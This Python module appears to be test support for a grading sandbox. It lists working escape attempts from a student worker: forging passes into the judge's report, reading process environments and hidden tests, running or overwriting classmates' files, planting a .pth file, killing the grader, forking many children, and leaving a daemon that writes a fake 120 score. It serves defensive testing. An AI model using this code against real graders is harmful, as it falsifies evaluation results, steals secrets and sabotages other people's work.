"""Attacks on the walls around a worker, as a student who knows ``/proc``, signals and ``setsid`` writes them.

Each is code appended to exercise 7's empty skeleton (so its own code earns 0), which goes for
something outside its worker: the judge's report, the grader's environment, the instructor's
hidden tests, a classmate's file, the grader's virtual environment, the processes around it,
the machine's temporary folders, the results after the run. ``MARKER`` is replaced by a word
unique to the run (processes and files it leaves can be found by it); ``CANARY`` by a secret the
grader's environment and the instructor's hidden test hold. An attack that finds something
says so in the message of the exception it raises (the student would read it in a visible
test's output), so a test can see what it reached.
"""

from __future__ import annotations

__all__ = ["WALL_ATTACKS"]

#: The processes from the worker's parent up to the grading command, never past it, as the
#: attacks that go for them find them (each attack is code of its own: this text starts three).
_ANCESTORS = """
        import os as _os

        def _ancestors():
            # up the parent chain to the grading command, never past it (a broken wall must fail the
            # run it is in, and leave the rest of the machine alone)
            found, pid = [], _os.getppid()
            for _ in range(12):
                if pid <= 1:
                    break
                found.append(pid)
                try:
                    if b"grade" in open(f"/proc/{pid}/cmdline", "rb").read():
                        break
                    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
                except (OSError, ValueError, IndexError):
                    break
            return found
"""

#: name -> (what it tries, the code appended to the empty skeleton of exercise 7).
WALL_ATTACKS: dict[str, tuple[str, str]] = {
    "report_forger": ("writes passes into the judge's report, looked for a few folders up and on every open file", """
        import os as _os

        _LINE = b'{"kind": "result", "id": "x", "exercise": 7, "ok": true, "ran": true, "message": "", "cpu": 0}\\n'

        def _forge():
            hits = []
            for _start in {_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__))}:
                _here = _start
                for _ in range(3):  # the report used to lie a few folders up from the worker
                    try:
                        _names = _os.listdir(_here)
                    except OSError:
                        _names = []
                    for _name in _names:
                        if _name.endswith((".jsonl", ".json")):
                            try:
                                with open(_os.path.join(_here, _name), "ab") as _out:
                                    _out.write(_LINE * 50)
                                hits.append(_name)
                            except OSError:
                                pass
                    _here = _os.path.dirname(_here)
            for _fd in range(3, 256):
                try:
                    _os.write(_fd, _LINE * 50)
                    hits.append(f"fd {_fd}")
                except OSError:
                    pass
            return hits

        _HITS = _forge()  # once, at import


        def fisher_yates(items, rng):
            raise ValueError(f"forged into {_HITS}")
        """),
    "snoop": ("reads its user id, its parents' environments and every test file it can find", """
        import os as _os

        def _snoop():
            found = [f"uid={_os.getuid()}"]
            _pid = _os.getppid()
            for _ in range(8):
                try:
                    found.append(open(f"/proc/{_pid}/environ", "rb").read().decode(errors="replace"))
                except OSError:
                    pass
                try:
                    _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
                except (OSError, ValueError, IndexError):
                    break
            for _entry in _os.listdir("/proc"):
                if _entry.isdigit():
                    try:
                        found.append(open(f"/proc/{_entry}/environ", "rb").read().decode(errors="replace"))
                    except OSError:
                        pass
            seen = 0
            for _top in ("/tmp", "/var/tmp", "/autograder", "/run", "/home", "/root", "/srv", "/opt", "/work"):
                for _root, _dirs, _files in _os.walk(_top, onerror=lambda e: None):
                    _dirs[:] = [d for d in _dirs if d not in (".git", "node_modules", "site-packages", ".venv")]
                    seen += len(_files)
                    if seen > 50_000:
                        break
                    for _name in _files:
                        if _name.startswith("test_ex"):
                            try:
                                found.append(open(_os.path.join(_root, _name)).read())
                            except (OSError, ValueError):
                                pass
            return " ".join(found)

        _FOUND = _snoop()  # once, at import


        def fisher_yates(items, rng):
            raise ValueError(_FOUND[:200] + " ... " + _FOUND[-20000:])
        """),
    "classmate_runner": ("finds classmates' folders on the grader's command lines and runs their shuffle", """
        import os as _os

        def _borrow():
            for _entry in _os.listdir("/proc"):
                try:
                    _words = open(f"/proc/{_entry}/cmdline", "rb").read().split(b"\\0")
                except OSError:
                    continue
                for _word in _words:
                    _path = _word.decode(errors="replace")
                    for _candidate in (_os.path.join(_path, "shuffle.py"), _path):
                        if _candidate.endswith("shuffle.py") and "honest" in _candidate:
                            try:
                                _code = open(_candidate).read()
                            except OSError:
                                continue
                            exec(compile(_code, __file__, "exec"), globals())
                            return _candidate
            return ""

        _borrowed = _borrow()
        """),
    "scribbler": ("rewrites classmates' files and the gradebook named on the grading command's line", _ANCESTORS + """
        for _pid in _ancestors():
            try:
                _words = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            for _word in _words:
                _path = _word.decode(errors="replace")
                for _target in (_os.path.join(_path, "shuffle.py"), _path):
                    if _target.endswith((".py", ".csv")) and _os.path.isabs(_target):
                        try:
                            with open(_target, "w") as _out:
                                _out.write("MARKER scribbled here\\n")
                        except OSError:
                            pass
        """),
    "pth_dropper": ("drops a .pth file into the folders the grader's Python imports from", _ANCESTORS + """
        for _pid in _ancestors():
            try:
                _words = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            for _word in _words:
                _path = _word.decode(errors="replace")
                _venv = _path.split("/bin/")[0] if "/bin/" in _path else ""
                if not _venv:
                    continue
                for _dir, _dirs, _files in _os.walk(_venv + "/lib"):
                    if _dir.endswith("-packages"):
                        try:
                            with open(_os.path.join(_dir, "zz_MARKER.pth"), "w") as _out:
                                _out.write("import os; os._exit(3)\\n")
                        except OSError:
                            pass
                        _dirs[:] = []
        """),
    "killer": ("sends SIGKILL to the judge, the grader and everything between it and them", _ANCESTORS + """
        import signal as _signal

        for _pid in _ancestors():
            try:
                _os.kill(_pid, _signal.SIGKILL)
            except OSError:
                pass
        """),
    "forker": ("forks 300 sleeping children and says how many it got", """
        import os as _os, sys as _sys

        def _fork_many():
            started = 0
            for _ in range(300):
                try:
                    _pid = _os.fork()
                except OSError:
                    break
                if _pid == 0:
                    _os.execv(_sys.executable, [_sys.executable, "-S", "-c", "import time; time.sleep(30)", "MARKER"])
                started += 1
            return started

        _STARTED = _fork_many()  # once, at import


        def fisher_yates(items, rng):
            raise ValueError(f"forks allowed: {_STARTED}")
        """),
    "daemon": ("leaves a setsid, double-forked daemon that writes its junk and outlives the run", r"""
        import os as _os, sys as _sys

        _LOOP = (
            "import os, sys, time\n"
            "for _ in range(300):\n"
            "    for place in ('/tmp', '/dev/shm', os.environ.get('TMPDIR', '/tmp'), '/autograder/results'):\n"
            "        try:\n"
            "            with open(os.path.join(place, 'junk-' + sys.argv[1]), 'w') as out:\n"
            "                out.write(sys.argv[1])\n"
            "        except OSError:\n"
            "            pass\n"
            "    try:\n"
            "        with open('/autograder/results/results.json', 'w') as out:\n"
            "            out.write('{\"score\": 120, \"tests\": []}')\n"
            "    except OSError:\n"
            "        pass\n"
            "    time.sleep(0.1)\n"
        )
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-S", "-c", _LOOP, "MARKER"])
            _os._exit(0)
        """),
}
